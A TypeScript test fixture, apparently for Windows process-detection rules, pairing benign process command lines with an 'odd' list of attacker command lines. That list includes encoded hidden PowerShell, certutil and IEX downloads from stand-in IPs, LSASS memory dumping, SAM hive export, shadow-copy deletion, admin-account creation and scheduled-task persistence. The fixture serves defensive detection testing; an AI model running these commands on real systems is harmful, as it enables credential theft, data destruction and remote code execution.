export const system = String.raw`C:\Windows\System32`;
const programs = String.raw`C:\Program Files`;
const programs86 = String.raw`C:\Program Files (x86)`;

/** Image, command line, parent, parent's command line; `#` stands for a few random digits, `@` for the user. */
type Process = readonly [image: string, commandLine: string, parent: string, parentCommandLine: string];

const explorer = String.raw`C:\Windows\explorer.exe`;
const chrome = String.raw`${programs}\Google\Chrome\Application\chrome.exe`;
const edge = String.raw`${programs86}\Microsoft\Edge\Application\msedge.exe`;
const services = String.raw`${system}\services.exe`;
const host = String.raw`${system}\svchost.exe`;
const shell = String.raw`${system}\cmd.exe`;
const powershell = String.raw`${system}\WindowsPowerShell\v1.0\powershell.exe`;
const code = String.raw`C:\Users\@\AppData\Local\Programs\Microsoft VS Code\Code.exe`;
const git = String.raw`${programs}\Git\cmd\git.exe`;
const management = String.raw`${programs86}\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe`;

export const ordinaryProcesses: readonly Process[] = [
  [
    chrome,
    String.raw`"${chrome}" --type=renderer --field-trial-handle=1#,i,#28934#,262144 --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --renderer-client-id=# --time-ticks-at-unix-epoch=-1#78 --launch-time-ticks=4#12 --mojo-platform-channel-handle=5# /prefetch:1`,
    chrome,
    String.raw`"${chrome}"`,
  ],
  [
    edge,
    String.raw`"${edge}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-GB --service-sandbox-type=none --mojo-platform-channel-handle=2# /prefetch:3`,
    edge,
    String.raw`"${edge}" --no-startup-window --win-session-start`,
  ],
  [host, String.raw`${host} -k netsvcs -p -s wlidsvc`, services, services],
  [host, String.raw`${host} -k LocalServiceNetworkRestricted -p`, services, services],
  [
    String.raw`${system}\conhost.exe`,
    String.raw`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`,
    shell,
    String.raw`cmd.exe /d /s /c "npm run build:#"`,
  ],
  [
    String.raw`${system}\backgroundTaskHost.exe`,
    String.raw`"${system}\backgroundTaskHost.exe" -ServerName:App.AppX#fmvq.mca`,
    host,
    String.raw`${host} -k DcomLaunch -p`,
  ],
  [
    String.raw`${system}\RuntimeBroker.exe`,
    String.raw`${system}\RuntimeBroker.exe -Embedding`,
    host,
    String.raw`${host} -k DcomLaunch -p`,
  ],
  [
    String.raw`${system}\taskhostw.exe`,
    'taskhostw.exe KEYROAMING',
    host,
    String.raw`${host} -k netsvcs -p -s Schedule`,
  ],
  [
    String.raw`${system}\dllhost.exe`,
    String.raw`${system}\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`,
    host,
    String.raw`${host} -k DcomLaunch -p`,
  ],
  [
    String.raw`${system}\SearchProtocolHost.exe`,
    String.raw`"${system}\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe#_ Global\UsGthrCtrlFltPipeMssGthrPipe#`,
    String.raw`${system}\SearchIndexer.exe`,
    String.raw`${system}\SearchIndexer.exe /Embedding`,
  ],
  [
    git,
    'git.exe -c core.quotepath=false -c color.ui=false status -z -uall',
    code,
    String.raw`"${code}" --ms-enable-electron-run-as-node`,
  ],
  [
    String.raw`${programs}\nodejs\node.exe`,
    String.raw`"${programs}\nodejs\node.exe" C:\Users\@\work\shop-#\node_modules\typescript\lib\tsserver.js --useInferredProjectPerProjectRoot --locale en`,
    code,
    String.raw`"${code}" --type=extensionHost`,
  ],
  [
    shell,
    String.raw`cmd.exe /d /s /c "C:\Users\@\work\shop-#\node_modules\.bin\vite.cmd --port 51#"`,
    String.raw`${programs}\nodejs\node.exe`,
    String.raw`"${programs}\nodejs\node.exe" run dev`,
  ],
  [
    powershell,
    String.raw`"${powershell}" -NoProfile -ExecutionPolicy AllSigned -File "${programs86}\Microsoft Intune Management Extension\Content\DetectionScripts\#.ps1"`,
    management,
    String.raw`"${management}"`,
  ],
  [
    String.raw`${programs}\Windows Defender\MpCmdRun.exe`,
    String.raw`"${programs}\Windows Defender\MpCmdRun.exe" GetDeviceTicket -AccessKey #`,
    String.raw`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`,
    'MsMpEng.exe',
  ],
  [
    String.raw`C:\Users\@\AppData\Local\Microsoft\OneDrive\OneDrive.exe`,
    String.raw`"C:\Users\@\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background /setautostart`,
    explorer,
    'explorer.exe',
  ],
  [
    String.raw`${programs}\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe`,
    'ms-teams.exe msteams:system-initiated',
    host,
    String.raw`${host} -k DcomLaunch -p`,
  ],
  [
    String.raw`${programs}\Microsoft Office\root\Office16\OUTLOOK.EXE`,
    String.raw`"${programs}\Microsoft Office\root\Office16\OUTLOOK.EXE" /eml "C:\Users\@\Downloads\offer #.eml"`,
    explorer,
    'explorer.exe',
  ],
  [String.raw`${system}\msiexec.exe`, String.raw`${system}\MsiExec.exe /V`, services, services],
  [
    String.raw`${system}\wbem\WmiPrvSE.exe`,
    String.raw`${system}\wbem\wmiprvse.exe -secured -Embedding`,
    host,
    String.raw`${host} -k DcomLaunch -p`,
  ],
];

/** Such as rules look for. */
export const oddProcesses: readonly Process[] = [
  [
    powershell,
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    shell,
    'cmd.exe /c start /b powershell',
  ],
  [String.raw`${system}\whoami.exe`, 'whoami /priv', shell, 'cmd.exe'],
  [
    String.raw`${system}\net1.exe`,
    'net1 localgroup administrators helper# /add',
    String.raw`${system}\net.exe`,
    'net localgroup administrators helper# /add',
  ],
  [
    String.raw`${system}\certutil.exe`,
    String.raw`certutil.exe -urlcache -split -f http://203.0.113.7/a#.txt C:\Users\Public\a#.exe`,
    shell,
    'cmd.exe',
  ],
  [
    String.raw`${system}\vssadmin.exe`,
    'vssadmin.exe delete shadows /all /quiet',
    shell,
    'cmd.exe /c clean.bat',
  ],
  [
    String.raw`${system}\rundll32.exe`,
    String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 6# C:\Windows\Temp\l#.dmp full`,
    powershell,
    'powershell.exe',
  ],
  [String.raw`${system}\reg.exe`, String.raw`reg save HKLM\SAM C:\Windows\Temp\s#.hiv`, shell, 'cmd.exe'],
  [
    String.raw`${system}\schtasks.exe`,
    String.raw`schtasks /create /sc minute /mo 5 /tn "Updater#" /tr C:\Users\Public\u#.exe`,
    powershell,
    'powershell.exe',
  ],
  [
    shell,
    String.raw`cmd.exe /c powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/#')`,
    String.raw`${programs}\Microsoft Office\root\Office16\WINWORD.EXE`,
    String.raw`"WINWORD.EXE" /n "C:\Users\@\Downloads\bill #.docm"`,
  ],
];
